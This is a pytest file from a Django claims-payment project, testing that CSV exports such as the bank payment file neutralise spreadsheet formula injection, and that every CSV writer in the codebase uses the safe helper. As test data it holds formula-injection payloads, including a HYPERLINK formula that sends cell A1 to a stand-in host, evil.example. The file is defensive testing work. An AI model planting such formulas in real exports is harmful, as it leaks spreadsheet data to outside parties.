"""CSV exports cannot carry a formula to the spreadsheet that opens them (the bank file, the unit dashboard)."""

import csv
import io
import re
from pathlib import Path

import pytest

from claims.services.payments import payment_batch_create, payment_batch_export
from mutuelle.csv_safe import neutralise
from tests.claims import liquidation_builders as b
from tests.claims.test_payments import _liquidated

BASE_DIR = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("cell, written", [
    ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"),
    ("-12.50", "-12.50"), ("144.00", "144.00"), ("ALAOUI AMINA", "ALAOUI AMINA"), ("", ""), (7, 7), (None, None),
])
def test_formula_leading_cells_are_neutralised_and_numbers_kept(cell, written):
    assert neutralise(cell) == written


@pytest.mark.django_db
def test_a_member_named_like_a_formula_reaches_the_bank_file_as_text():
    b.reference()
    member = b.member()
    member.last_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    member.first_name = "@Amina"
    member.save()
    _liquidated(member)
    batch = payment_batch_create()
    rows = list(csv.reader(io.StringIO(payment_batch_export(batch=batch))))
    name = rows[1][1]
    assert name.startswith("'=") and "HYPERLINK" in name.upper()
    assert rows[1][2] == "72.00"  # the amount is still a plain number


def test_every_csv_writer_of_the_project_goes_through_the_safe_helper():
    offenders = []
    for path in BASE_DIR.rglob("*.py"):
        relative = path.relative_to(BASE_DIR).as_posix()
        # liquidation_write feeds PostgreSQL's COPY (data, never opened in a spreadsheet): neutralising would alter it.
        if relative.startswith((".venv/", "tests/", "bench/")) or relative in (
                "mutuelle/csv_safe.py", "claims/services/liquidation_write.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(relative)
    assert offenders == []
